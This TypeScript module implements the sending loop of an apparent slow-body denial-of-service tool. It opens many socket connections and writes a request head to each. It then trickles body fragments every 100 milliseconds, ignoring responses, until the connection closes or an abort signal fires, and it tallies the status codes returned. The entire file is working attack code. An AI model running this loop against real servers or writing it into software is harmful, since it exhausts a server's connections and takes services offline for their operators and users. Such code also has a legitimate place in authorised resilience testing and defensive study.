import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Outcome, SlowBodies } from './attack.ts';
import { openConnection } from './connection.ts';
import { countResponses } from './response-counter.ts';

/** The pause between two parts of a body, in milliseconds. */
const PAUSE_MS = 100;

/** Sends bodies without regard to responses, until their connections end or `signal` aborts. */
export async function sendSlowly(attack: SlowBodies, signal: AbortSignal): Promise<Outcome> {
  const outcome: Record<string, number> = { sent: 0 };
  const send = async (_: unknown, index: number) => {
    const { head, part } = attack.bodies[index % attack.bodies.length] ?? { head: '', part: '' };
    const socket = await openConnection(attack);
    if (!socket) return;
    outcome['sent'] = (outcome['sent'] ?? 0) + 1;
    socket.on(
      'data',
      countResponses((status) => (outcome[status] = (outcome[status] ?? 0) + 1)),
    );
    socket.resume();
    const closed = once(socket, 'close', { signal }).catch(() => undefined);
    socket.write(head);
    while (socket.writable && !signal.aborted) {
      socket.write(part);
      await Promise.race([closed, sleep(PAUSE_MS)]);
    }
    await closed;
    socket.destroy();
  };
  await Promise.all(Array.from({ length: attack.connections }, send));
  return outcome;
}
